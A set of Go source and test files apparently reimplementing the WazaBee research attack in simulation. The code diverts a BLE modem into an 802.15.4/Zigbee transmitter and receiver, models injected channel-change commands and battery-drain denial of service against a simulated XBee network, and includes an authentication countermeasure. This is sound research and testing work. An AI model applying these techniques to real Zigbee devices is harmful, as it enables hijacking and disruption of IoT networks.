	if err != nil {
		t.Fatal(err)
	}
	capture, err := sim.Capture(20) // sensor is on 14
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sim.PHY.Demodulate(capture); !errors.Is(err, ieee802154.ErrNoSync) {
		t.Errorf("off-channel capture decoded: %v", err)
	}
}

func TestSimulationExchangeBeaconRequest(t *testing.T) {
	sim, err := NewSimulation(3, 8, 30)
	if err != nil {
		t.Fatal(err)
	}
	req, err := ieee802154.NewBeaconRequest(1).Encode()
	if err != nil {
		t.Fatal(err)
	}
	ppdu, err := ieee802154.NewPPDU(req)
	if err != nil {
		t.Fatal(err)
	}
	sig, err := sim.PHY.Modulate(ppdu)
	if err != nil {
		t.Fatal(err)
	}

	// On the network's channel the coordinator answers with a beacon.
	reply, err := sim.Exchange(sig, DefaultChannel)
	if err != nil {
		t.Fatal(err)
	}
	dem, err := sim.PHY.Demodulate(reply)
	if err != nil {
		t.Fatal(err)
	}
	frame, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
	if err != nil {
		t.Fatal(err)
	}
	if frame.Type != ieee802154.FrameBeacon || frame.SrcPAN != DefaultPAN {
		t.Errorf("reply = %+v, want beacon from PAN 0x1234", frame)
	}

	// On an empty channel nothing answers.
	silent, err := sim.Exchange(sig, 22)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sim.PHY.Demodulate(silent); !errors.Is(err, ieee802154.ErrNoSync) {
		t.Error("empty channel produced a decodable reply")
	}

	if _, err := sim.Exchange(nil, DefaultChannel); err == nil {
		t.Error("expected error for empty transmission")
	}
	if _, err := sim.Exchange(sig, 99); err == nil {
		t.Error("expected error for invalid channel")
	}
}
