package zigbee

import (
	"fmt"

	"wazabee/internal/ieee802154"
)

// Defaults of the experimental setup in section VI-A.
const (
	DefaultPAN         = 0x1234
	DefaultCoordinator = 0x0042
	DefaultSensor      = 0x0063
	DefaultChannel     = 14
)

// Sensor is the XBee end device: it periodically reports a reading to the
// coordinator and applies remote AT commands addressed to it — including
// the channel change the attack injects.
type Sensor struct {
	// PAN, Addr and CoordAddr identify the node and its coordinator.
	PAN, Addr, CoordAddr uint16
	// Channel is the current 802.15.4 channel; remote AT "CH" commands
	// rewrite it.
	Channel int
	// Security, when set, seals outgoing payloads and requires inbound
	// configuration commands to authenticate — the section VII
	// counter-measure.
	Security *SecurityContext
	// Battery, when set, tracks the node's energy budget (the
	// energy-depletion DoS target).
	Battery *Battery

	seq     uint8
	reading uint16
}

// NewSensor builds the default sensor of the experimental setup.
func NewSensor() *Sensor {
	return &Sensor{
		PAN:       DefaultPAN,
		Addr:      DefaultSensor,
		CoordAddr: DefaultCoordinator,
		Channel:   DefaultChannel,
	}
}

// NextDataFrame produces the sensor's next periodic reading frame (the
// reading increments each period, standing in for a temperature). On a
// secured network the payload is sealed.
func (s *Sensor) NextDataFrame() (*ieee802154.MACFrame, error) {
	s.reading++
	s.seq++
	if s.Battery != nil {
		s.Battery.Drain(s.Battery.TxCostMicroJ)
	}
	payload := SensorPayload(s.reading)
	frame := ieee802154.NewDataFrame(s.seq, s.PAN, s.CoordAddr, s.Addr, payload, true)
	if s.Security != nil {
		sealed, err := s.Security.Seal(payload)
		if err != nil {
			return nil, err
		}
		frame.Payload = sealed
		frame.Security = true
	}
	return frame, nil
}

// Handle processes a frame heard on the sensor's channel and returns the
// sensor's reply, or nil when the frame does not concern it.
func (s *Sensor) Handle(f *ieee802154.MACFrame) (*ieee802154.MACFrame, error) {
	if f == nil {
		return nil, fmt.Errorf("zigbee: nil frame")
	}
	if f.Type != ieee802154.FrameData || f.DestMode != ieee802154.AddrShort {
		return nil, nil
	}
	if f.DestPAN != s.PAN || f.DestAddr != s.Addr {
		return nil, nil
	}
	if s.Battery != nil {
		// Receiving the frame costs radio energy whether or not it
		// turns out to be garbage — the lever of the energy-depletion
		// attack.
		s.Battery.Drain(s.Battery.RxCostMicroJ)
	}
	payload := f.Payload
	if s.Security != nil {
		// Configuration commands must authenticate; anything else —
		// including WazaBee-injected cleartext — is silently dropped.
		if !f.Security {
			return nil, nil
		}
		if s.Battery != nil {
			// The CCM* verification burns energy even when it fails:
			// cryptography cannot price-discriminate before checking.
			s.Battery.Drain(s.Battery.CryptoCostMicroJ)
		}
		opened, err := s.Security.Open(payload)
		if err != nil {
			return nil, nil
		}
		payload = opened
	}
	cmd, err := ParseATCommand(payload)
	if err != nil {
		return nil, nil // data not for the configuration layer
	}
	status := byte(0)
	switch cmd.Command {
	case "CH":
		if len(cmd.Param) == 1 && int(cmd.Param[0]) >= ieee802154.FirstChannel && int(cmd.Param[0]) <= ieee802154.LastChannel {
			s.Channel = int(cmd.Param[0])
		} else {
			status = 1 // invalid parameter
		}
	default:
		status = 2 // unsupported command
	}
	resp := &ATResponse{FrameID: cmd.FrameID, Command: cmd.Command, Status: status}
	respPayload, err := resp.Encode()
	if err != nil {
		return nil, err
	}
	s.seq++
	reply := ieee802154.NewDataFrame(s.seq, s.PAN, f.SrcAddr, s.Addr, respPayload, false)
	if s.Security != nil {
		sealed, err := s.Security.Seal(respPayload)
		if err != nil {
			return nil, err
		}
		reply.Payload = sealed
		reply.Security = true
	}
	return reply, nil
}

// Reading is one data point recorded by the coordinator's display.
type Reading struct {
	// Src is the short address the frame claimed as its source.
	Src uint16
	// Seq is the MAC sequence number.
	Seq uint8
	// Value is the reported integer.
	Value uint16
}

// Coordinator is the XBee PAN coordinator: it acknowledges sensor data,
// graphs the readings (here: records them) and answers beacon requests
// during active scans.
type Coordinator struct {
	PAN, Addr uint16
	Channel   int
	// Security, when set, makes the coordinator drop any data frame
	// that does not authenticate under the network key.
	Security *SecurityContext
	// PermitJoining controls whether association requests are granted.
	PermitJoining bool
	// Associated lists the short addresses handed out to joiners.
	Associated []uint16
	// Readings is the display log, in arrival order.
	Readings []Reading

	seq      uint8
	nextAddr uint16
}

// NewCoordinator builds the default coordinator of the experimental setup.
func NewCoordinator() *Coordinator {
	return &Coordinator{
		PAN:     DefaultPAN,
		Addr:    DefaultCoordinator,
		Channel: DefaultChannel,
	}
}

// Handle processes a frame heard on the coordinator's channel and returns
// its reply (ACK or beacon), or nil.
func (c *Coordinator) Handle(f *ieee802154.MACFrame) (*ieee802154.MACFrame, error) {
	if f == nil {
		return nil, fmt.Errorf("zigbee: nil frame")
	}
	switch f.Type {
	case ieee802154.FrameCommand:
		// Active scan: answer broadcast beacon requests.
		if len(f.Payload) == 1 && ieee802154.CommandID(f.Payload[0]) == ieee802154.CmdBeaconRequest {
			c.seq++
			return ieee802154.NewBeacon(c.seq, c.PAN, c.Addr), nil
		}
		// Association: admit the joiner (or refuse) per policy.
		if len(f.Payload) == 2 && ieee802154.CommandID(f.Payload[0]) == ieee802154.CmdAssociationRequest {
			c.seq++
			if !c.PermitJoining {
				return ieee802154.NewAssociationResponse(c.seq, c.PAN, ieee802154.NoShortAddress,
					ieee802154.BroadcastAddr, ieee802154.AssocStatusDenied), nil
			}
			if c.nextAddr == 0 {
				c.nextAddr = 0x0100
			}
			assigned := c.nextAddr
			c.nextAddr++
			c.Associated = append(c.Associated, assigned)
			return ieee802154.NewAssociationResponse(c.seq, c.PAN, ieee802154.NoShortAddress,
				assigned, ieee802154.AssocStatusSuccess), nil
		}
	case ieee802154.FrameData:
		if f.DestMode != ieee802154.AddrShort || f.DestPAN != c.PAN || f.DestAddr != c.Addr {
			return nil, nil
		}
		payload := f.Payload
		if c.Security != nil {
			if !f.Security {
				return nil, nil // unauthenticated data on a secured PAN
			}
			opened, err := c.Security.Open(payload)
			if err != nil {
				return nil, nil // forged or replayed
			}
			payload = opened
		}
		value, err := ParseSensorPayload(payload)
		if err != nil {
			return nil, nil // not a sensor reading
		}
		c.Readings = append(c.Readings, Reading{Src: f.SrcAddr, Seq: f.Seq, Value: value})
		if f.AckRequest {
			return ieee802154.NewAck(f.Seq), nil
		}
	}
	return nil, nil
}

// LastReading returns the most recent display entry and false when the
// log is empty.
func (c *Coordinator) LastReading() (Reading, bool) {
	if len(c.Readings) == 0 {
		return Reading{}, false
	}
	return c.Readings[len(c.Readings)-1], true
}
