package core

import (
	"bytes"
	"fmt"
	"testing"

	"wazabee/internal/ble"
	"wazabee/internal/ieee802154"
)

// TestLoopbackAcrossOversamplingFactors confirms the primitives do not
// depend on the default simulation fidelity: the end-to-end path works
// at low (4) and high (16) samples per chip alike.
func TestLoopbackAcrossOversamplingFactors(t *testing.T) {
	psdu := testPSDU(t, []byte{0x41, 0x88, 0x09, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0x55})
	for _, sps := range []int{4, 8, 16} {
		t.Run(fmt.Sprintf("sps=%d", sps), func(t *testing.T) {
			phy, err := ble.NewPHY(ble.LE2M, sps)
			if err != nil {
				t.Fatal(err)
			}
			tx, err := NewTransmitter(phy)
			if err != nil {
				t.Fatal(err)
			}
			zphy, err := ieee802154.NewPHY(sps)
			if err != nil {
				t.Fatal(err)
			}

			// WazaBee TX -> legit RX.
			sig, err := tx.ModulatePSDU(psdu)
			if err != nil {
				t.Fatal(err)
			}
			padded, err := sig.Pad(20*sps, 10*sps)
			if err != nil {
				t.Fatal(err)
			}
			dem, err := zphy.Demodulate(padded)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(dem.PPDU.PSDU, psdu) {
				t.Error("TX-side PSDU mismatch")
			}

			// Legit TX -> WazaBee RX.
			rxPHY, err := ble.NewPHY(ble.LE2M, sps)
			if err != nil {
				t.Fatal(err)
			}
			rx, err := NewReceiver(rxPHY)
			if err != nil {
				t.Fatal(err)
			}
			ppdu, err := ieee802154.NewPPDU(psdu)
			if err != nil {
				t.Fatal(err)
			}
			sig2, err := zphy.Modulate(ppdu)
			if err != nil {
				t.Fatal(err)
			}
			padded2, err := sig2.Pad(20*sps, 10*sps)
			if err != nil {
				t.Fatal(err)
			}
			dem2, err := rx.Receive(padded2)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(dem2.PPDU.PSDU, psdu) {
				t.Error("RX-side PSDU mismatch")
			}
		})
	}
}

// TestLoopbackPayloadSizes sweeps frame sizes from empty-payload to the
// PHY maximum.
func TestLoopbackPayloadSizes(t *testing.T) {
	phy, err := ble.NewPHY(ble.LE2M, 8)
	if err != nil {
		t.Fatal(err)
	}
	tx, err := NewTransmitter(phy)
	if err != nil {
		t.Fatal(err)
	}
	zphy, err := ieee802154.NewPHY(8)
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []int{0, 1, 50, ieee802154.MaxPSDULength - 2} {
		payload := make([]byte, n)
		for i := range payload {
			payload[i] = byte(i * 31)
		}
		psdu := testPSDU(t, payload)
		sig, err := tx.ModulatePSDU(psdu)
		if err != nil {
			t.Fatalf("size %d: %v", n, err)
		}
		padded, err := sig.Pad(160, 80)
		if err != nil {
			t.Fatal(err)
		}
		dem, err := zphy.Demodulate(padded)
		if err != nil {
			t.Fatalf("size %d: %v", n, err)
		}
		if !bytes.Equal(dem.PPDU.PSDU, psdu) {
			t.Errorf("size %d: PSDU mismatch", n)
		}
	}
}
