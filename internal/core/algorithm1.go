// Package core implements the WazaBee attack itself: the PN-sequence to
// MSK correspondence (Algorithm 1 of the paper), the Zigbee/BLE common
// channel table (Table II), and the transmission and reception primitives
// that drive a diverted BLE GFSK modem as an IEEE 802.15.4 radio.
package core

import (
	"fmt"

	"wazabee/internal/bitstream"
	"wazabee/internal/ieee802154"
)

// Constellation state tables of Algorithm 1: the I ("even") and Q ("odd")
// bit labels of the four O-QPSK constellation states, indexed by state.
var (
	evenStates = [4]byte{1, 0, 0, 1}
	oddStates  = [4]byte{1, 1, 0, 0}
)

// ConvertPNSequence is Algorithm 1 of the paper, verbatim: it re-encodes a
// 32-chip O-QPSK PN sequence as the 31-bit MSK sequence of its phase
// transitions. A counter-clockwise +π/2 phase rotation encodes as 1, a
// clockwise -π/2 rotation as 0.
func ConvertPNSequence(oqpskSequence bitstream.Bits) (bitstream.Bits, error) {
	if len(oqpskSequence) != ieee802154.ChipsPerSymbol {
		return nil, fmt.Errorf("core: PN sequence length %d, want %d", len(oqpskSequence), ieee802154.ChipsPerSymbol)
	}
	return convert(oqpskSequence), nil
}

// ConvertChipStream generalises Algorithm 1 to a whole frame: a stream of
// n chips yields the n-1 MSK bits a BLE modulator must transmit to
// reproduce the frame's O-QPSK waveform, including the transition bits at
// symbol boundaries. At least two chips are required.
func ConvertChipStream(chips bitstream.Bits) (bitstream.Bits, error) {
	if len(chips) < 2 {
		return nil, fmt.Errorf("core: chip stream length %d < 2", len(chips))
	}
	return convert(chips), nil
}

// AppendConvertChipStream is the appending form of ConvertChipStream
// for pooled transmit scratch: the n-1 MSK bits of the chip stream are
// appended to dst.
func AppendConvertChipStream(dst, chips bitstream.Bits) (bitstream.Bits, error) {
	if len(chips) < 2 {
		return dst, fmt.Errorf("core: chip stream length %d < 2", len(chips))
	}
	return appendConvert(dst, chips), nil
}

// convert runs the Algorithm 1 state machine over a chip sequence of any
// length. The state tracks the constellation position; at every chip the
// counter-clockwise neighbour state is taken when its label matches the
// chip, otherwise the clockwise neighbour. Chip parity (even chips ride
// the in-phase component, odd chips the quadrature component) selects
// which label table applies.
//
// One correction to the algorithm as printed: the paper initialises
// currentState to 0 unconditionally, which implicitly assumes the sequence
// starts with chip 0 = 1. For the eight PN sequences beginning with a 0
// chip that assumption inverts the first transition bit relative to the
// physical O-QPSK waveform (the rotation while modulating chip 1 depends
// on chip 0). Deriving the initial state from chip 0 makes the encoding
// match the waveform for all sixteen sequences — verified against the
// modulator in the package tests.
func convert(chips bitstream.Bits) bitstream.Bits {
	return appendConvert(make(bitstream.Bits, 0, len(chips)-1), chips)
}

// appendConvert is convert in appending form, reusing dst's capacity.
func appendConvert(dst, chips bitstream.Bits) bitstream.Bits {
	currentState := 0
	if chips[0] == 0 {
		currentState = 1
	}
	for i := 1; i < len(chips); i++ {
		states := &evenStates
		if i%2 == 1 {
			states = &oddStates
		}
		if chips[i] == states[(currentState+1)%4] {
			currentState = (currentState + 1) % 4
			dst = append(dst, 1)
		} else {
			currentState = (currentState + 3) % 4
			dst = append(dst, 0)
		}
	}
	return dst
}

// CorrespondenceEntry is one row of the PN/MSK correspondence table the
// attack is built on.
type CorrespondenceEntry struct {
	// Symbol is the 4-bit 802.15.4 data symbol.
	Symbol int
	// PN is the 32-chip O-QPSK spreading sequence (Table I).
	PN bitstream.Bits
	// MSK is the 31-bit MSK re-encoding produced by Algorithm 1.
	MSK bitstream.Bits
}

// CorrespondenceTable builds the full 16-row PN/MSK table.
func CorrespondenceTable() ([16]CorrespondenceEntry, error) {
	var table [16]CorrespondenceEntry
	for s := 0; s < 16; s++ {
		pn, err := ieee802154.PNSequence(s)
		if err != nil {
			return table, err
		}
		msk, err := ConvertPNSequence(pn)
		if err != nil {
			return table, err
		}
		table[s] = CorrespondenceEntry{Symbol: s, PN: pn, MSK: msk}
	}
	return table, nil
}

// AccessPattern returns the 32-bit pattern a diverted BLE receiver loads
// as its Access Address to detect 802.15.4 frames: the MSK encoding of one
// preamble 0000 symbol followed by the boundary transition into the next
// preamble symbol. Because the 802.15.4 preamble is eight consecutive 0000
// symbols, this exact pattern repeats throughout the preamble.
func AccessPattern() bitstream.Bits {
	pn0, err := ieee802154.PNSequence(0)
	if err != nil {
		// Unreachable: symbol 0 is always valid.
		panic(err)
	}
	double := append(bitstream.Clone(pn0), pn0...)
	msk, err := ConvertChipStream(double)
	if err != nil {
		panic(err)
	}
	return msk[:32]
}

// AccessAddress packs AccessPattern into the 32-bit register value a BLE
// chip expects (bit 0 transmitted first).
func AccessAddress() uint32 {
	var aa uint32
	for i, b := range AccessPattern() {
		aa |= uint32(b) << uint(i)
	}
	return aa
}
