package core

import (
	"fmt"

	"wazabee/internal/ble"
	"wazabee/internal/ieee802154"
)

// ChannelMapping is one row of Table II: a Zigbee channel whose centre
// frequency coincides with a BLE channel, so that even a chip that can
// only tune to BLE channel indices can run the attack there.
type ChannelMapping struct {
	// Zigbee is the 802.15.4 channel number (11..26).
	Zigbee int
	// BLE is the BLE channel index sharing the frequency.
	BLE int
	// FrequencyMHz is the common centre frequency.
	FrequencyMHz float64
}

// CommonChannels derives Table II of the paper by intersecting the two
// channel maps: every 802.15.4 channel whose centre frequency is also a
// BLE channel centre frequency.
func CommonChannels() []ChannelMapping {
	var out []ChannelMapping
	for _, zc := range ieee802154.Channels() {
		freq, err := ieee802154.ChannelFrequencyMHz(zc)
		if err != nil {
			continue
		}
		bc, err := ble.ChannelForFrequencyMHz(freq)
		if err != nil {
			continue
		}
		out = append(out, ChannelMapping{Zigbee: zc, BLE: bc, FrequencyMHz: freq})
	}
	return out
}

// BLEChannelFor returns the BLE channel index sharing the centre frequency
// of the given Zigbee channel, for chips that cannot tune to arbitrary
// frequencies. Odd Zigbee channels (and 2405/2415/2425... offsets that sit
// between BLE channels) have no mapping.
func BLEChannelFor(zigbeeChannel int) (int, error) {
	freq, err := ieee802154.ChannelFrequencyMHz(zigbeeChannel)
	if err != nil {
		return 0, err
	}
	bc, err := ble.ChannelForFrequencyMHz(freq)
	if err != nil {
		return 0, fmt.Errorf("core: Zigbee channel %d (%g MHz) has no BLE channel equivalent", zigbeeChannel, freq)
	}
	return bc, nil
}
