package core

import (
	"fmt"
	"time"

	"wazabee/internal/ble"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/obs/link"
)

// Receiver is the WazaBee reception primitive: a BLE radio configured with
// the MSK preamble pattern as its Access Address, CRC checking disabled
// and whitening bypassed, whose demodulated bit stream is despread by
// Hamming distance into 802.15.4 symbols.
type Receiver struct {
	phy *ble.PHY

	// MaxPatternErrors is the tolerated bit-error count in the 32-bit
	// Access Address correlation (hardware typically allows a few).
	MaxPatternErrors int

	// MaxChipDistance is the despreading quality gate: frames whose
	// worst per-symbol Hamming distance exceeds it are dropped as not
	// received, like a correlation-threshold receiver aborting. Zero
	// disables the gate.
	MaxChipDistance int

	// Obs receives the receiver's metrics (frames, sync failures,
	// chip-distance histograms, stage timings); nil falls back to the
	// process default registry.
	Obs *obs.Registry

	// Trace, when non-nil, records a span per pipeline stage
	// (aa-correlate, despread) for each Receive call.
	Trace *obs.Trace

	// stream backs the incremental Push/FlushStream convenience API;
	// Receive/ReceiveStats always run on a fresh stream so they stay
	// safe to call concurrently (the Table III harness fans one
	// receiver call out per channel).
	stream *RxStream
}

// NewReceiver wraps a BLE PHY; like the transmitter it requires the 2
// Mbit/s rate.
func NewReceiver(phy *ble.PHY) (*Receiver, error) {
	if phy == nil {
		return nil, fmt.Errorf("core: nil PHY")
	}
	rate, err := phy.Mode.SymbolRate()
	if err != nil {
		return nil, err
	}
	if rate != ieee802154.ChipRate {
		return nil, fmt.Errorf("core: %v runs at %d sym/s; WazaBee needs the %d chip/s rate (use LE 2M)",
			phy.Mode, rate, ieee802154.ChipRate)
	}
	return &Receiver{phy: phy, MaxPatternErrors: 3, MaxChipDistance: 15}, nil
}

// Receive demodulates a capture with the BLE GFSK receiver, locks onto the
// 802.15.4 preamble via the MSK Access Address, splits the bit stream into
// 31-bit blocks and despreads each block to the nearest PN sequence. Every
// returned "not received" error satisfies errors.Is(err, ErrNoSync), with
// the underlying cause (no preamble, mid-frame abort, quality gate) kept
// in the chain so telemetry and callers can tell them apart.
func (r *Receiver) Receive(sig dsp.IQ) (*ieee802154.Demodulated, error) {
	dem, _, err := r.ReceiveStats(sig)
	return dem, err
}

// ReceiveStats runs the same receiver but additionally returns the
// per-frame link diagnostics. The stats are never nil: every attempt —
// sync failure, mid-frame abort, quality-gate drop or clean decode —
// yields a finalized record with at least the capture RSSI, and the
// record is also fed to the receiver's metrics registry.
//
// Since the streaming refactor this is a thin wrapper over a
// single-capture RxStream (one Push, one Flush); the results — frame
// bytes, stats, error chains, metrics — are identical to the former
// one-shot implementation. Each call runs on a fresh stream, so
// concurrent calls on one Receiver remain safe.
func (r *Receiver) ReceiveStats(sig dsp.IQ) (*ieee802154.Demodulated, *link.Stats, error) {
	return r.ReceiveStatsAt(time.Time{}, sig)
}

// ReceiveStatsAt is ReceiveStats for an origin-stamped capture: origin
// is the capture's monotonic emission time (zigbee.Capture.Origin), and
// the concluding flush observes the emission→verdict distance into the
// wazabee_latency_seconds{stage="demod"} histogram. It stamps exactly
// the stage set a long-lived RxStream with SetOrigin stamps, so
// whole-capture and chunked deployments report comparable latency
// families. A zero origin degrades to plain ReceiveStats.
func (r *Receiver) ReceiveStatsAt(origin time.Time, sig dsp.IQ) (*ieee802154.Demodulated, *link.Stats, error) {
	s := r.Stream()
	defer s.Close()
	s.SetOrigin(origin)
	s.Push(sig)
	return s.Flush()
}

// Push feeds one IQ chunk into the receiver's internal stream, creating
// it on first use, and returns any frame completed by this chunk. Pair
// with FlushStream at capture boundaries. Unlike Receive/ReceiveStats,
// the incremental API is not goroutine-safe — it shares one stream
// across calls; use Stream() directly for one stream per goroutine.
func (r *Receiver) Push(chunk dsp.IQ) []*ieee802154.Demodulated {
	if r.stream == nil {
		r.stream = r.Stream()
	}
	return r.stream.Push(chunk)
}

// FlushStream concludes the internal stream's current capture: the
// decoded frame (or "not received" error) and link stats, exactly as
// Receive would report for the concatenated chunks.
func (r *Receiver) FlushStream() (*ieee802154.Demodulated, *link.Stats, error) {
	if r.stream == nil {
		r.stream = r.Stream()
	}
	return r.stream.Flush()
}

// PHY exposes the underlying BLE modem.
func (r *Receiver) PHY() *ble.PHY {
	return r.phy
}
