package core

import (
	"fmt"

	"wazabee/internal/bitstream"
	"wazabee/internal/ble"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/obs/link"
)

// Receiver is the WazaBee reception primitive: a BLE radio configured with
// the MSK preamble pattern as its Access Address, CRC checking disabled
// and whitening bypassed, whose demodulated bit stream is despread by
// Hamming distance into 802.15.4 symbols.
type Receiver struct {
	phy *ble.PHY

	// MaxPatternErrors is the tolerated bit-error count in the 32-bit
	// Access Address correlation (hardware typically allows a few).
	MaxPatternErrors int

	// MaxChipDistance is the despreading quality gate: frames whose
	// worst per-symbol Hamming distance exceeds it are dropped as not
	// received, like a correlation-threshold receiver aborting. Zero
	// disables the gate.
	MaxChipDistance int

	// Obs receives the receiver's metrics (frames, sync failures,
	// chip-distance histograms, stage timings); nil falls back to the
	// process default registry.
	Obs *obs.Registry

	// Trace, when non-nil, records a span per pipeline stage
	// (aa-correlate, despread) for each Receive call.
	Trace *obs.Trace
}

// NewReceiver wraps a BLE PHY; like the transmitter it requires the 2
// Mbit/s rate.
func NewReceiver(phy *ble.PHY) (*Receiver, error) {
	if phy == nil {
		return nil, fmt.Errorf("core: nil PHY")
	}
	rate, err := phy.Mode.SymbolRate()
	if err != nil {
		return nil, err
	}
	if rate != ieee802154.ChipRate {
		return nil, fmt.Errorf("core: %v runs at %d sym/s; WazaBee needs the %d chip/s rate (use LE 2M)",
			phy.Mode, rate, ieee802154.ChipRate)
	}
	return &Receiver{phy: phy, MaxPatternErrors: 3, MaxChipDistance: 15}, nil
}

// Receive demodulates a capture with the BLE GFSK receiver, locks onto the
// 802.15.4 preamble via the MSK Access Address, splits the bit stream into
// 31-bit blocks and despreads each block to the nearest PN sequence. Every
// returned "not received" error satisfies errors.Is(err, ErrNoSync), with
// the underlying cause (no preamble, mid-frame abort, quality gate) kept
// in the chain so telemetry and callers can tell them apart.
func (r *Receiver) Receive(sig dsp.IQ) (*ieee802154.Demodulated, error) {
	dem, _, err := r.ReceiveStats(sig)
	return dem, err
}

// ReceiveStats runs the same receiver but additionally returns the
// per-frame link diagnostics. The stats are never nil: every attempt —
// sync failure, mid-frame abort, quality-gate drop or clean decode —
// yields a finalized record with at least the capture RSSI, and the
// record is also fed to the receiver's metrics registry.
func (r *Receiver) ReceiveStats(sig dsp.IQ) (*ieee802154.Demodulated, *link.Stats, error) {
	reg := obs.Or(r.Obs)
	st := &link.Stats{RSSIdBFS: link.RSSIdBFS(sig)}
	defer func() {
		st.Finalize()
		link.Observe(reg, st, "decoder", "wazabee")
	}()

	endCorrelate := obs.Stage(reg, r.Trace, "aa-correlate")
	cap, err := r.phy.DemodulateFrame(sig, AccessPattern(), r.MaxPatternErrors)
	endCorrelate()
	if err != nil {
		reg.Counter("wazabee_sync_failures_total", "decoder", "wazabee").Inc()
		// Normalise to the PHY-level sentinel so callers classify
		// "not received" uniformly, but keep the BLE demodulator's
		// error as the distinguishable cause.
		return nil, st, fmt.Errorf("core: access address correlation: %w: %w", ieee802154.ErrNoSync, err)
	}
	st.Synced = true
	st.SyncErrors = cap.PatternErrors
	st.SyncCorr = cap.SyncScore
	st.CFOHz = link.CFOFromBias(cap.CFOBias, ieee802154.ChipRate)
	reg.Histogram("wazabee_aa_pattern_errors", obs.LinearBuckets(0, 1, 9), "decoder", "wazabee").
		Observe(float64(cap.PatternErrors))

	endDespread := obs.Stage(reg, r.Trace, "despread")
	dem, err := ieee802154.DecodePPDUFromTransitions(cap.Bits, 0)
	endDespread()
	if err != nil {
		reg.Counter("wazabee_despread_failures_total", "decoder", "wazabee").Inc()
		// A mid-frame abort after a good Access Address match: still
		// "not received", but distinguishable from a sync failure.
		return nil, st, fmt.Errorf("core: despread after sync: %w", err)
	}
	st.WorstChipDistance = dem.WorstChipDistance
	st.ChipErrors = dem.TotalChipDistance
	st.ChipsCompared = dem.SymbolCount * (ieee802154.ChipsPerSymbol - 1)
	st.DistHist = dem.ChipDistHist

	// The frame span at the recovered timing phase bounds the signal
	// power measurement; everything outside it is the noise floor. Two
	// chip periods of guard on each side keep the half-chip O-QPSK
	// offset, the trailing chip past the last transition and the
	// Gaussian pulse tails out of the noise estimate.
	sps := r.phy.SamplesPerSymbol
	frameStart := cap.SampleOffset + cap.PatternStart*sps
	frameEnd := frameStart + dem.TransitionSpan*sps
	if rssi, noise, snr, ok := link.Measure(sig, frameStart, frameEnd, 2*sps); ok {
		st.RSSIdBFS = rssi
		st.NoisedBFS = noise
		st.SNRdB = snr
		st.SNRValid = true
	} else {
		st.RSSIdBFS = rssi
	}

	reg.Histogram("wazabee_worst_chip_distance", obs.DistanceBuckets, "decoder", "wazabee").
		Observe(float64(dem.WorstChipDistance))
	if r.MaxChipDistance > 0 && dem.WorstChipDistance > r.MaxChipDistance {
		st.Gated = true
		reg.Counter("wazabee_quality_gate_drops_total", "decoder", "wazabee").Inc()
		return nil, st, fmt.Errorf("core: worst chip distance %d exceeds gate %d: %w",
			dem.WorstChipDistance, r.MaxChipDistance, ieee802154.ErrNoSync)
	}
	dem.SyncErrors = cap.PatternErrors
	dem.SampleOffset = cap.SampleOffset
	dem.CFOBias = cap.CFOBias
	dem.SyncCorr = cap.SyncScore

	st.Decoded = true
	st.FCSOK = bitstream.CheckFCS(dem.PPDU.PSDU)
	dem.Link = st

	reg.Counter("wazabee_frames_received_total", "decoder", "wazabee").Inc()
	result := "pass"
	if !st.FCSOK {
		result = "fail"
	}
	reg.Counter("wazabee_crc_checks_total", "decoder", "wazabee", "result", result).Inc()
	return dem, st, nil
}

// PHY exposes the underlying BLE modem.
func (r *Receiver) PHY() *ble.PHY {
	return r.phy
}
