package core

import (
	"fmt"

	"wazabee/internal/ble"
	"wazabee/internal/bitstream"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
)

// Receiver is the WazaBee reception primitive: a BLE radio configured with
// the MSK preamble pattern as its Access Address, CRC checking disabled
// and whitening bypassed, whose demodulated bit stream is despread by
// Hamming distance into 802.15.4 symbols.
type Receiver struct {
	phy *ble.PHY

	// MaxPatternErrors is the tolerated bit-error count in the 32-bit
	// Access Address correlation (hardware typically allows a few).
	MaxPatternErrors int

	// MaxChipDistance is the despreading quality gate: frames whose
	// worst per-symbol Hamming distance exceeds it are dropped as not
	// received, like a correlation-threshold receiver aborting. Zero
	// disables the gate.
	MaxChipDistance int

	// Obs receives the receiver's metrics (frames, sync failures,
	// chip-distance histograms, stage timings); nil falls back to the
	// process default registry.
	Obs *obs.Registry

	// Trace, when non-nil, records a span per pipeline stage
	// (aa-correlate, despread) for each Receive call.
	Trace *obs.Trace
}

// NewReceiver wraps a BLE PHY; like the transmitter it requires the 2
// Mbit/s rate.
func NewReceiver(phy *ble.PHY) (*Receiver, error) {
	if phy == nil {
		return nil, fmt.Errorf("core: nil PHY")
	}
	rate, err := phy.Mode.SymbolRate()
	if err != nil {
		return nil, err
	}
	if rate != ieee802154.ChipRate {
		return nil, fmt.Errorf("core: %v runs at %d sym/s; WazaBee needs the %d chip/s rate (use LE 2M)",
			phy.Mode, rate, ieee802154.ChipRate)
	}
	return &Receiver{phy: phy, MaxPatternErrors: 3, MaxChipDistance: 15}, nil
}

// Receive demodulates a capture with the BLE GFSK receiver, locks onto the
// 802.15.4 preamble via the MSK Access Address, splits the bit stream into
// 31-bit blocks and despreads each block to the nearest PN sequence. Every
// returned "not received" error satisfies errors.Is(err, ErrNoSync), with
// the underlying cause (no preamble, mid-frame abort, quality gate) kept
// in the chain so telemetry and callers can tell them apart.
func (r *Receiver) Receive(sig dsp.IQ) (*ieee802154.Demodulated, error) {
	reg := obs.Or(r.Obs)

	endCorrelate := obs.Stage(reg, r.Trace, "aa-correlate")
	cap, err := r.phy.DemodulateFrame(sig, AccessPattern(), r.MaxPatternErrors)
	endCorrelate()
	if err != nil {
		reg.Counter("wazabee_sync_failures_total", "decoder", "wazabee").Inc()
		// Normalise to the PHY-level sentinel so callers classify
		// "not received" uniformly, but keep the BLE demodulator's
		// error as the distinguishable cause.
		return nil, fmt.Errorf("core: access address correlation: %w: %w", ieee802154.ErrNoSync, err)
	}
